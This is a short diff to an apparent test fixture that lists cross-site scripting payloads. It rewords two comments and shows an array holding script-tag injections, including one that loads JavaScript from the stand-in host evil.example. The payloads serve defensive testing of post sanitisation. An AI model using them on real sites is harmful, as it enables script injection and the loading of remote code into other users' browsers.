@@ -1,8 +1,8 @@
-/** Sets a flag that journeys look for: whatever runs any of these gives itself away. */
+/** Sets a flag that journeys look for, so an attack that runs is noticed. */
 const RUN = 'window.__ran=1'
 const CALL = 'alert(1)'
 
-/** Attempts to run a script, load something or dress up as the page, from within a post. */
+/** Posts that try to run a script, load a file or imitate the page. */
 export const INJECTIONS: readonly string[] = [
   `<script>${RUN}</script>`,
   `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
